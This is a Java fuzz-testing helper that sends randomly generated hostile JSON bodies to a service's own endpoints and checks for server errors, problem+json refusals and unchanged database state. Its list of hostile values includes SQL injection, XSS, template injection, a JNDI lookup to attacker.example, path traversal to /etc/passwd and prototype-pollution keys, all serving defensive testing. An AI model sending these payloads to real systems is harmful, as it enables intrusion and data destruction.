package org.lmc.testing.fuzz;

import static io.restassured.RestAssured.given;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.sessions.JqwikSession;
import org.lmc.contracts.EventJson;
import org.lmc.testing.access.DatabaseState;

/**
 * Property-based hostile input for a service's writing endpoints, generated with jqwik's arbitraries from a valid body
 * of each endpoint: random JSON of any shape, malformed and truncated JSON, deep nesting, and the valid body with one
 * field replaced by a huge string, a value of the wrong type, a unicode edge case (NUL, lone surrogates, bidi
 * overrides, emoji, combining marks) or an injection string (SQL, HTML, template, JNDI, path), one field removed or an
 * unknown one added. The property for every case: never a 5xx; a refusal is problem+json; a refusal writes nothing
 * (the database compared before and after). The cases are drawn with jqwik's {@code sampleStream()} outside a jqwik
 * property (these run inside a Quarkus test), in a jqwik session seeded from {@code lmc.fuzz.seed}: the test command uses
 * a fixed seed so it is repeatable, {@code -Dlmc.fuzz.seed=random} draws new cases, and every failure names its seed.
 */
public final class HostileInput {
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** A writing endpoint with its target filled in and a body it accepts. */
    public record Target(String method, String target, String validBody, Map<String, String> headers) {
        public Target(String method, String target, String validBody) {
            this(method, target, validBody, Map.of());
        }
    }

    /** One hostile body; {@code mustRefuse} when it carries a field the endpoint does not declare (strict bodies: 400). */
    public record Case(String body, boolean mustRefuse) {
    }

    /** How many cases ran, which broke the property, and the seed that draws the same cases again. */
    public record Report(int cases, int accepted, List<String> failures, String seed) {
    }

    /** The seed of this run: {@code lmc.fuzz.seed}, a new random one when it says {@code random}. */
    public static String seed() {
        String configured = System.getProperty("lmc.fuzz.seed", "20111");
        return "random".equals(configured) ? Long.toString(new java.security.SecureRandom().nextLong() >>> 1) : configured;
    }

    private HostileInput() {
    }

    /** Runs {@code casesPerTarget} hostile bodies against every target as the caller of {@code token}. */
    public static Report run(List<Target> targets, String token, DatabaseState state, int casesPerTarget) {
        String seed = seed();
        List<List<Case>> drawn = new ArrayList<>();
        JqwikSession.start(seed);
        try {
            for (Target target : targets) {
                drawn.add(cases(target.validBody()).sampleStream().limit(casesPerTarget).toList());
            }
        } finally {
            JqwikSession.finish();
        }
        List<String> failures = new ArrayList<>();
        int cases = 0;
        int accepted = 0;
        RestAssuredConfig raw = RestAssuredConfig.config().encoderConfig(EncoderConfig.encoderConfig()
                .appendDefaultContentCharsetToContentTypeIfUndefined(false));
        for (int t = 0; t < targets.size(); t++) {
            Target target = targets.get(t);
            for (Case hostile : drawn.get(t)) {
                String body = hostile.body();
                cases++;
                Map<String, String> before = state.snapshot();
                Response response = given().config(raw).auth().oauth2(token).header("Content-Type", "application/json")
                        .header("Idempotency-Key", java.util.UUID.randomUUID().toString()).headers(target.headers())
                        .body(body.getBytes(StandardCharsets.UTF_8)).request(target.method(), target.target());
                int status = response.statusCode();
                String what = target.method() + " " + target.target() + " with " + excerpt(body) + " -> " + status;
                if (status >= 500) {
                    failures.add(what + ": " + excerpt(response.asString()));
                    continue;
                }
                if (status < 400) {
                    accepted++;
                    if (hostile.mustRefuse()) {
                        failures.add(what + ": a field the endpoint does not declare was accepted (strict bodies answer 400)");
                    }
                    continue;
                }
                if (!String.valueOf(response.contentType()).startsWith("application/problem+json")) {
                    failures.add(what + " answered as " + response.contentType() + ", not problem+json");
                }
                List<String> changed = DatabaseState.changed(before, state.snapshot());
                if (!changed.isEmpty()) {
                    failures.add(what + " refused but changed " + changed);
                }
            }
        }
        List<String> named = failures.stream().map(f -> "[seed " + seed + "] " + f).toList();
        return new Report(cases, accepted, named, seed);
    }

    /** Hostile bodies derived from a valid one. */
    public static Arbitrary<String> bodies(String validBody) {
        return cases(validBody).map(Case::body);
    }

    /** Hostile cases derived from a valid body, each knowing whether strict bodies must refuse it. */
    public static Arbitrary<Case> cases(String validBody) {
        JsonNode valid = parse(validBody);
        List<String> pointers = new ArrayList<>();
        collect(valid, "", pointers);
        Arbitrary<Case> malformed = malformed(validBody).map(b -> new Case(b, false));
        Arbitrary<Case> random = randomJson().map(b -> new Case(b, false));
        if (pointers.isEmpty()) {
            return Arbitraries.oneOf(malformed, random);
        }
        Arbitrary<Case> replaced = Combinators.combine(Arbitraries.of(pointers), hostileValue())
                .as((pointer, value) -> new Case(replace(valid, pointer, value), false));
        Arbitrary<Case> removed = Arbitraries.of(pointers).map(pointer -> new Case(remove(valid, pointer), false));
        List<String> objects = new ArrayList<>(List.of(""));
        pointers.stream().filter(p -> valid.at(p).isObject() && !isMap(valid.at(p))).forEach(objects::add);
        Arbitrary<Case> added = Combinators.combine(Arbitraries.of(objects), Arbitraries.of("id", "status", "version",
                "createdAt", "approvedBy", "paidCents", "orgId", "__proto__", "constructor", "unexpected"))
                .as((pointer, name) -> new Case(addField(valid, pointer, name), !objectAt(valid, pointer).has(name)));
        // Weighted by repetition: mostly one field made hostile, then malformed text and random JSON.
        return Arbitraries.oneOf(List.of(replaced, replaced, replaced, replaced, removed, added, malformed, malformed, random));
    }

    /** The hostile values as text, for a query or path parameter. */
    public static Arbitrary<String> hostileText() {
        return hostileValue().map(v -> v.isTextual() ? v.asText() : v.toString());
    }

    /** A value to put where a valid one was: wrong types, huge and odd strings, extreme numbers. */
    static Arbitrary<JsonNode> hostileValue() {
        Arbitrary<JsonNode> odd = Arbitraries.of(
                "", " ", "\u0000", "a\u0000b", "\ud800", "\udfff", "\u202eevil", "\ufeffbom", "😀👩‍👩‍👧‍👦", "e\u0301\u0301\u0301",
                "Ω≈ç√∫", "\r\n\t", "' OR '1'='1' --", "'; DROP TABLE team; --", "<script>alert(1)</script>", "{{7*7}}",
                "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "%00", "\\u0000", "null", "NaN", "-0",
                "2011-02-30", "9999-12-31", "0000-01-01", "1e309", "0803360", "2400090", "ford-foundation")
                .map(s -> (JsonNode) NODES.textNode(s));
        Arbitrary<JsonNode> huge = Arbitraries.of(1_000, 70_000, 200_000)
                .map(n -> (JsonNode) NODES.textNode("\u00e9".repeat(n / 2) + "x".repeat(n / 2)));
        Arbitrary<JsonNode> strings = Arbitraries.strings().all().ofMaxLength(300).map(s -> (JsonNode) NODES.textNode(s));
        Arbitrary<JsonNode> numbers = Arbitraries.oneOf(
                Arbitraries.of(Long.MAX_VALUE, Long.MIN_VALUE, 0L, -1L, 1L, 2_147_483_648L).map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.of("1e400", "-1e400", "123456789012345678901234567890", "0.0000000001", "1.5")
                        .map(n -> (JsonNode) NODES.numberNode(new java.math.BigDecimal(n))));
        Arbitrary<JsonNode> others = Arbitraries.of(NODES.nullNode(), NODES.booleanNode(true), NODES.arrayNode(),
                NODES.objectNode(), NODES.arrayNode().add("x").add(1), NODES.objectNode().put("a", 1));
        return Arbitraries.oneOf(List.of(odd, odd, odd, huge, strings, numbers, others));
    }

    /** Truncated, garbled or pathological JSON text. */
    static Arbitrary<String> malformed(String validBody) {
        return Arbitraries.oneOf(
                Arbitraries.integers().between(0, Math.max(0, validBody.length() - 1)).map(n -> validBody.substring(0, n)),
                Arbitraries.strings().all().ofMaxLength(200),
                Arbitraries.of("{", "}", "[", "{\"a\":}", "{\"a\" 1}", "{'a': 1}", "{\"a\": 1,}", "NaN", "undefined", "\u0000",
                        "{\"a\": \"\\ud800\"}", "{\"a\": 01}", "[" .repeat(5_000) + "]".repeat(5_000),
                        "{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000), validBody + validBody, validBody + "garbage"));
    }

    /** Any JSON value, nested a few levels. */
    static Arbitrary<String> randomJson() {
        Arbitrary<JsonNode> leaf = Arbitraries.oneOf(
                Arbitraries.strings().ofMaxLength(20).map(s -> (JsonNode) NODES.textNode(s)),
                Arbitraries.longs().map(n -> (JsonNode) NODES.numberNode(n)),
                Arbitraries.of(NODES.nullNode(), NODES.booleanNode(false)));
        Arbitrary<JsonNode> level1 = Arbitraries.oneOf(leaf,
                leaf.list().ofMaxSize(4).map(items -> (JsonNode) NODES.arrayNode().addAll(items)),
                Arbitraries.maps(Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12), leaf).ofMaxSize(5)
                        .map(HostileInput::object));
        Arbitrary<JsonNode> level2 = Arbitraries.oneOf(level1,
                Arbitraries.maps(Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(12), level1).ofMaxSize(5)
                        .map(HostileInput::object));
        return level2.map(JsonNode::toString);
    }

    private static JsonNode object(Map<String, JsonNode> fields) {
        ObjectNode node = NODES.objectNode();
        fields.forEach(node::set);
        return node;
    }

    private static void collect(JsonNode node, String pointer, List<String> pointers) {
        if (node.isObject()) {
            for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext();) {
                Map.Entry<String, JsonNode> field = it.next();
                String child = pointer + "/" + field.getKey().replace("~", "~0").replace("/", "~1");
                pointers.add(child);
                collect(field.getValue(), child, pointers);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                pointers.add(pointer + "/" + i);
                collect(node.get(i), pointer + "/" + i, pointers);
            }
        }
    }

    private static String replace(JsonNode valid, String pointer, JsonNode value) {
        return edit(valid, pointer, (parent, key) -> {
            if (parent instanceof ObjectNode object) {
                object.set(key, value);
            } else {
                ((ArrayNode) parent).set(Integer.parseInt(key), value);
            }
        });
    }

    private static String remove(JsonNode valid, String pointer) {
        return edit(valid, pointer, (parent, key) -> {
            if (parent instanceof ObjectNode object) {
                object.remove(key);
            } else {
                ((ArrayNode) parent).remove(Integer.parseInt(key));
            }
        });
    }

    /** Sets {@code name} to "x"; a field the body already declares (a funder's chosen {@code id}) stays a valid case. */
    private static String addField(JsonNode valid, String pointer, String name) {
        JsonNode copy = valid.deepCopy();
        ((ObjectNode) objectAt(copy, pointer)).put(name, "x");
        return copy.toString();
    }

    private static JsonNode objectAt(JsonNode root, String pointer) {
        return pointer.isEmpty() ? root : root.at(pointer);
    }

    /** An object whose keys are data (category to cap, kind to roles), not declared fields: upper-case keys. */
    private static boolean isMap(JsonNode node) {
        Iterator<String> names = node.fieldNames();
        return names.hasNext() && names.next().matches("[A-Z_]+");
    }

    private static String edit(JsonNode valid, String pointer, java.util.function.BiConsumer<JsonNode, String> change) {
        JsonNode copy = valid.deepCopy();
        int slash = pointer.lastIndexOf('/');
        JsonNode parent = slash == 0 ? copy : copy.at(pointer.substring(0, slash));
        change.accept(parent, pointer.substring(slash + 1).replace("~1", "/").replace("~0", "~"));
        return copy.toString();
    }

    private static JsonNode parse(String json) {
        try {
            return EventJson.MAPPER.readTree(json);
        } catch (IOException e) {
            throw new IllegalArgumentException("the valid body is not JSON: " + e.getMessage(), e);
        }
    }

    private static String excerpt(String body) {
        String flat = body.replaceAll("\\s+", " ");
        return flat.length() > 160 ? flat.substring(0, 160) + "...(" + body.length() + " chars)" : flat;
    }
}
